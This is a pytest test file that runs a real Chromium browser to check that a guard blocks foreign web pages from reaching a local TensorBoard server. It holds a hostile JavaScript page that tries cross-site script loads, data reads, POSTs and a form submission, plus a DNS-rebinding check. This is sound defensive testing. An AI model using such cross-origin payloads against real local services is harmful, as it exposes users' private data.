"""A page on another site, in real Chromium, against TensorBoard: with our guard it gets nothing, without it does."""

from __future__ import annotations

import os
import subprocess
import sys
from typing import TYPE_CHECKING, Self

import pytest

from expsyncd.config.model import TensorBoardConfig
from expsyncd.tensorboard import command
from support import chromium
from support.tensorboards import Training, a_free_port, ask
from support.wait import until

if TYPE_CHECKING:
    from pathlib import Path

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(chromium.PROGRAM is None, reason="Chromium is not installed"),
    pytest.mark.timeout(180),
]
SECRET = "/0123456789abcdefghijklmnopqrstuv"
# What each attempt came to: loaded or refused for what the page can see, and what it could read.
ATTACK = """<!doctype html><meta charset="utf-8"><body><script>
const base = "http://127.0.0.1:PORT";
const loads = (tag, name, path) => new Promise(done => {
  const made = document.createElement(tag);
  made.onload = () => done("loaded"); made.onerror = () => done("refused");
  made[name] = base + path; document.body.append(made);
});
const reads = (path, how) => fetch(base + path, how).then(answer => answer.text(), () => "refused");
const posts = () => new Promise(done => {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = "there"; form.target = "there"; form.method = "post"; form.action = base + "/data/runs";
  frame.onload = () => { if (form.isConnected) { form.remove(); done("sent"); } };
  document.body.append(frame); document.body.append(form); form.submit();
});
(async () => {
  const told = {
    script: await loads("script", "src", "/index.js"),
    image: await loads("img", "src", "/icon_bundle.svg"),
    read: await reads("/data/runs", {}),
    blind: await reads("/data/runs", {mode: "no-cors"}),
    post: await reads("/data/runs", {method: "POST", body: "{}"}),
    form: await posts(),
  };
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
})();
</script>"""


class Page:
    """A real TensorBoard over one run, guarded as ours or plain."""

    def __init__(self, folder: Path, *, plain: bool = False, prefix: str = "") -> None:
        training = Training(folder / "tb" / "gpu" / "a")
        training.write(range(3))
        training.close()
        self.port = a_free_port()
        argv = command.argv(TensorBoardConfig(), logdir=folder / "tb", port=self.port, fast=True)
        if plain:
            argv = [
                sys.executable,
                "-m",
                "tensorboard.main",
                *(word for word in argv if word.startswith("--")),
            ]
        self.process = subprocess.Popen(
            argv, env=command.environment(os.environ, prefix), stderr=subprocess.DEVNULL, cwd=folder
        )
        until(lambda: ask(self.port, f"{prefix}/data/environment")[0] == 200, 40)

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.process.terminate()
        self.process.wait(10)


@pytest.mark.parametrize(
    "name", ["evil.example", "127.0.0.1"]
)  # another site, and another page of this computer
def test_a_foreign_page_gets_nothing(tmp_path, name):
    (tmp_path / "site").mkdir()
    with Page(tmp_path) as page:
        attack = ATTACK.replace("PORT", str(page.port))
        told = chromium.told_by(tmp_path / "site", attack, tmp_path / "profile", name=name)
    # A form is sent, whatever comes of it: that it is refused is shown by tests/integration/test_page.py.
    assert told == {
        "script": "refused", "image": "refused", "read": "refused", "blind": "refused", "post": "refused", "form": "sent",
    }  # fmt: skip


def test_the_same_page_gets_something_of_a_plain_tensorboard(tmp_path):
    (tmp_path / "site").mkdir()
    with Page(tmp_path, plain=True) as page:
        # Its script would run as part of the page.
        attack = ATTACK.replace("PORT", str(page.port)).replace("/index.js", "/no.js")
        told = chromium.told_by(tmp_path / "site", attack, tmp_path / "profile", name="evil.example")
    assert told["blind"] == ""  # an answer that the page cannot look into


def test_a_second_name_for_this_computer_shows_nothing(tmp_path):
    with Page(tmp_path) as page:
        shown = chromium.dom_of(f"http://rebound.example:{page.port}/", tmp_path / "profile")
        assert "this TensorBoard answers to localhost only" in shown
        assert "tf-tensorboard" not in shown
        assert "<tb-webapp" in chromium.dom_of(f"http://localhost:{page.port}/", tmp_path / "profile")


def test_a_private_page_opens_from_the_page_that_leads_there(tmp_path):
    from expsyncd.cli.open import leading_to

    with Page(tmp_path, prefix=SECRET) as page:
        leads = leading_to(f"http://127.0.0.1:{page.port}{SECRET}/", tmp_path / "open.html")
        shown = chromium.dom_of(leads, tmp_path / "profile")
        assert "<tb-webapp" in shown
        shown = chromium.dom_of(f"http://127.0.0.1:{page.port}/", tmp_path / "profile")
        assert "this TensorBoard is private" in shown
